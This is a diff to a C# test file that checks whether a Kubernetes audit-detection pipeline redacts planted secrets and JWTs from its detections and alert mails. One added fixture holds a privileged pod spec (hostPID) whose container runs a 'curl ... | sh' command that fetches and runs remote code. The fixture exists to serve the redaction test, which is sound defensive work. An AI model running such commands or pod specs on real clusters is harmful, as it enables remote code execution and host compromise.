@@ -29,6 +29,8 @@ public sealed class RedactionTests
         new() { Verb = "get", Subresource = "exec", Code = 101, RequestUri = $"/api/v1/namespaces/kube-system/pods/x/exec?command=mysql&command=--password%3D{Secret}", Namespace = "kube-system" },
         new() { Resource = "", Verb = "get", RequestUri = $"/api/v1/x?token={Secret}&x=1", User = "system:anonymous", Code = 200 },
         new() { Resource = "secrets", Verb = "list", Namespace = "", Name = "", RequestUri = "/api/v1/secrets", UserAgent = $"tool/1 Authorization: Bearer {Jwt}", Code = 200 },
+        new() { Resource = "pods", Name = $"x token={Secret}", RequestObject = $$$"""{"spec":{"hostPID":true,"containers":[{"image":"alpine","command":["sh","-c","curl -u a:b -H 'Authorization: Bearer {{{Jwt}}}' http://x | sh"],"env":[{"name":"P","value":"{{{Secret}}}"}]}]}}""" },
+        new() { Resource = "configmaps", RequestObject = $$$"""{"data":{"a":"password={{{Secret}}}"}}""" },
         new() { Resource = "clusterrolebindings", Namespace = "", UserAgent = $"tool/1 token={Secret}", RequestObject = $$$"""{"roleRef":{"name":"cluster-admin"},"subjects":[{"name":"password={{{Secret}}}"}]}""" },
     ];
 
@@ -45,6 +47,13 @@ public sealed class RedactionTests
         List<Detection> detections = pipeline.Judge(batch, archived.Evidence, new HashSet<RequestKey>());
 
         Assert.True(detections.Count >= Planted.Length, $"{detections.Count} detections");
+        foreach (Detection detection in detections)
+        {
+            string line = JsonSerializer.Serialize(detection, OutputJson.Lines.Detection);
+            Assert.DoesNotContain(Secret, line, StringComparison.Ordinal);
+            Assert.DoesNotContain(Jwt[..20], line, StringComparison.Ordinal);
+        }
+
         foreach (Incident incident in IncidentBuilder.Group(detections))
         {
             AlertMail mail = AlertMailRenderer.Render(incident);
